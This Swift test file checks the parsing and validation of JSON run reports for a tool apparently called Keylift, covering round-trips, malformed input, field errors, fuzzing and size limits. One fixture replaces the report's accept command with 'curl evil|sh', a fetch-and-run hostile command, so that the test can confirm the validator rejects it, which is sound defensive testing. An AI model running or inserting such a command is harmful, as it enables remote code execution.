// SPDX-License-Identifier: MIT

import Foundation
@testable import KeyliftChecks
@testable import KeyliftCommand
import TestRequirements
import TestSupport
import Testing

struct ReportJSONTests {
  private static func read(_ text: String) throws -> RunReport {
    try RunReport(json: Array(text.utf8))
  }

  /// Returns the sample's JSON with one text replaced by another.
  private static func sample(_ old: String, _ new: String) throws -> String {
    let text = SampleRun.report.json
    try #require(text.contains(old))
    return text.replacing(old, with: new, maxReplacements: 1)
  }

  @Test func writtenReportIsReadBack() throws {
    #expect(try ReportJSONTests.read(SampleRun.report.json) == SampleRun.report)
    let part = SampleRun.passing(5, shard: .init(index: 2, total: 3))
    #expect(try ReportJSONTests.read(part.json) == part)
  }

  @Test(arguments: [
    ("", 1, 1), ("{\n \"é\" 1}", 2, 6), ("{\"format\": }", 1, 12),
    ("\u{FEFF}{\"format\": }", 1, 12),
  ])
  func malformedTextIsReportedAtItsPlace(_ text: String, _ line: Int, _ column: Int) {
    let reason = "it is malformed at line \(line), column \(column)"
    #expect(throws: ReportError.notJSON(reason)) { try ReportJSONTests.read(text) }
  }

  @Test func nonFiniteNumbersRoundTrip() throws {
    var report = SampleRun.report
    for amount in [Double.infinity, -.infinity, 0.1 + 0.2, .leastNonzeroMagnitude] {
      report.findings[1].differences[0].worstAmount = amount
      #expect(try ReportJSONTests.read(report.json) == report)
    }
  }

  @Test(.requires(.python)) func pythonReadsTheSameReport() throws {
    let python = try #require(Program("python3"))
    let script = "import json,sys; print(json.load(open(sys.argv[1]))['suite'][2], end='')"
    let result = try python.run(on: Array(SampleRun.report.json.utf8)) { ["-c", script, $0] }
    #expect(result.status == 0)
    #expect(String(decoding: result.output, as: UTF8.self) == SampleRun.hostileName)
  }

  /// A replaced text, its replacement and the error that it causes.
  static let faults: [(old: String, new: String, error: ReportError)] = [
    ("keylift-report", "keylift-trace", .otherFormat("keylift-trace")),
    ("\"version\" : 1", "\"version\" : 2", .otherVersion(2)),
    (
      "\"version\" : 1", "\"version\" : \"1\"",
      .value(path: "version", reason: "not a whole number")
    ),
    ("\"suite\" :", "\"sweet\" :", .missing(path: "suite")),
    ("\"name\" : \"chat\"", "\"name\" : null", .missing(path: "findings[0].name")),
    (
      "\"passes\" : true", "\"passes\" : 1",
      .value(path: "findings[0].passes", reason: "not true or false")
    ),
    ("\"moved\"", "\"shaken\"", .value(path: "findings[1].verdict", reason: "invalid value")),
    (
      "\"sentence\"", "\"stray\" : 1, \"sentence\"",
      .unknown(path: "findings[1].differences[0].stray")
    ),
    ("\"keylift\" :", "\"shards\" : [], \"keylift\" :", .unknown(path: "shards")),
    (
      "\"keylift\" :", "\"shard\" : {\"index\" : 4, \"total\" : 3}, \"keylift\" :",
      .value(path: "shard", reason: "there is no shard 4 of 3")
    ),
    ("\"name\" : \"chat\"", "\"name\" : \"cat\"", .notInSuite(name: "cat")),
    ("\"name\" : \"chat\"", "\"name\" : \"stacks\"", .twice(name: "stacks")),
    (
      "\"frameCount\" : 103", "\"frameCount\" : -1",
      .value(path: "findings[0].frameCount", reason: "less than 0")
    ),
    (
      "\"frameCount\" : 103", "\"frameCount\" : 9223372036854775807",
      .value(path: "findings[0].frameCount", reason: "more than 1000000000")
    ),
    ("\"fps\" : 60", "\"fps\" : 0", .value(path: "findings[0].fps", reason: "less than 1")),
    (
      "\"lastFrame\" : 102", "\"lastFrame\" : 10",
      .value(path: "findings[1].differences[0]", reason: "its frames are not in order")
    ),
    (
      "keylift accept sign-up/iphone-se.dark\"", "curl evil|sh\"",
      .value(path: "findings[1].acceptCommand", reason: "not the command that accepts it")
    ),
    (
      "iphone-se.dark/golden\"", "iphone-se.light/golden\"",
      .value(path: "findings[1].acceptCommand", reason: "not the command that accepts it")
    ),
  ]

  @Test(arguments: faults.indices) func invalidMemberIsNamed(index: Int) throws {
    let fault = ReportJSONTests.faults[index]
    let text = try ReportJSONTests.sample(fault.old, fault.new)
    #expect(throws: fault.error) { try ReportJSONTests.read(text) }
  }

  @Test func findingsFollowSuiteOrder() {
    var report = SampleRun.report
    report.findings.swapAt(0, 1)
    #expect(throws: ReportError.outOfOrder(name: "chat")) { try ReportJSONTests.read(report.json) }
    report.suite.append("chat")
    #expect(throws: ReportError.twice(name: "chat")) { try ReportJSONTests.read(report.json) }
  }

  @Test(arguments: ["", "{", "[]", "1", "\u{FEFF}nothing", "{\"format\": \"keylift-report\"}"])
  func textThatIsNoReportIsRejected(text: String) {
    #expect(throws: ReportError.self) { try ReportJSONTests.read(text) }
  }

  @Test(arguments: 0..<300) func damagedReportIsReadOrRejectedWithoutTrapping(seed: UInt64) {
    var random = SeededRandom(seed: seed)
    var bytes = Array(SampleRun.report.json.utf8)
    for _ in 0..<Int.random(in: 1...4, using: &random) {
      let index = Int.random(in: bytes.indices, using: &random)
      switch Int.random(in: 0..<3, using: &random) {
      case 0: bytes[index] = .random(in: 0...255, using: &random)
      case 1: bytes.remove(at: index)
      default: bytes = Array(bytes[..<index])
      }
      if bytes.isEmpty { break }
    }
    // A damaged report that is still read must have the same text when written again.
    if let report = try? RunReport(json: bytes) {
      #expect((try? RunReport(json: Array(report.json.utf8))) == report, "seed \(seed)")
    }
  }

  @Test func valuesAreCountedBeforeTheyAreParsed() throws {
    let list = String(repeating: "0,", count: 1_500_000)
    let text = try ReportJSONTests.sample("{", "{\"x\": [\(list)0],")
    #expect(throws: ReportError.tooManyValues) { try ReportJSONTests.read(text) }
  }
}
